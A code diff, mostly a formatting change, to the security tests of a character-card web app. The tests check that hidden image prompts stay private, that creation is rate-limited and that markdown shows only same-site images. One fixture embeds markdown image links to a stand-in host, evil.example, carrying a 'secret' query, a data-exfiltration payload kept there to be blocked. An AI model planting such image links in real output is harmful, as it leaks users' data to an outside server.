@@ -12,9 +12,47 @@ const SECRET_NEGATIVE = "secret-negative-prompt-91bc";
 /** A JPEG header (SOI, a JFIF segment, SOF0) that claims the given size; nothing after it decodes. */
 function jpegClaiming(width: number, height: number) {
   return new Uint8Array([
-    0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
-    0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01,
-    0xff, 0xd9,
+    0xff,
+    0xd8,
+    0xff,
+    0xe0,
+    0x00,
+    0x10,
+    0x4a,
+    0x46,
+    0x49,
+    0x46,
+    0x00,
+    0x01,
+    0x01,
+    0x00,
+    0x00,
+    0x01,
+    0x00,
+    0x01,
+    0x00,
+    0x00,
+    0xff,
+    0xc0,
+    0x00,
+    0x11,
+    0x08,
+    height >> 8,
+    height & 0xff,
+    width >> 8,
+    width & 0xff,
+    0x03,
+    0x01,
+    0x22,
+    0x00,
+    0x02,
+    0x11,
+    0x01,
+    0x03,
+    0x11,
+    0x01,
+    0xff,
+    0xd9,
   ]);
 }
 
@@ -40,7 +78,13 @@ function chunked(size: number, fill = 0x20) {
 describe("card export keeps hidden prompts hidden", () => {
   it("leaves the image and negative prompts out for everyone but the creator and moderators", async () => {
     const owner = await signedIn("prompt-owner@example.com");
-    const created = await owner.postJson("/api/characters", { name: "Veiled", greeting: "Hello.", imagePrompt: SECRET_PROMPT, negativePrompt: SECRET_NEGATIVE, imagePromptVisible: false });
+    const created = await owner.postJson("/api/characters", {
+      name: "Veiled",
+      greeting: "Hello.",
+      imagePrompt: SECRET_PROMPT,
+      negativePrompt: SECRET_NEGATIVE,
+      imagePromptVisible: false,
+    });
     const { id } = (await created.json()) as { id: string };
     await putJson(owner, `/api/characters/${id}/publish`, { isPublic: true });
 
@@ -129,7 +173,9 @@ describe("small holes", () => {
 
   it("creating characters is limited per user: 20 a minute", async () => {
     const client = await signedIn("prolific@example.com");
-    const statuses = await Promise.all(Array.from({ length: 22 }, (_, i) => client.postJson("/api/characters", { name: `Clone ${i}`, greeting: "Hi." }).then((r) => r.status)));
+    const statuses = await Promise.all(
+      Array.from({ length: 22 }, (_, i) => client.postJson("/api/characters", { name: `Clone ${i}`, greeting: "Hi." }).then((r) => r.status)),
+    );
     expect(statuses.filter((s) => s === 201).length).toBe(20);
     expect(statuses.filter((s) => s === 429).length).toBe(2);
   });
@@ -137,7 +183,9 @@ describe("small holes", () => {
 
 describe("markdown shows images from this site only", () => {
   it("renders /media images, and any other image address as a plain link", () => {
-    const html = renderToString(createElement(Markdown, { children: "![ours](/media/thumbnails/a.png) ![spy](https://evil.example/?q=secret) ![](//evil.example/p.gif)" }));
+    const html = renderToString(
+      createElement(Markdown, { children: "![ours](/media/thumbnails/a.png) ![spy](https://evil.example/?q=secret) ![](//evil.example/p.gif)" }),
+    );
     expect(html).toContain('<img src="/media/thumbnails/a.png" alt="ours"');
     expect(html).not.toMatch(/<img[^>]+evil\.example/);
     expect(html).toContain('href="https://evil.example/?q=secret"');
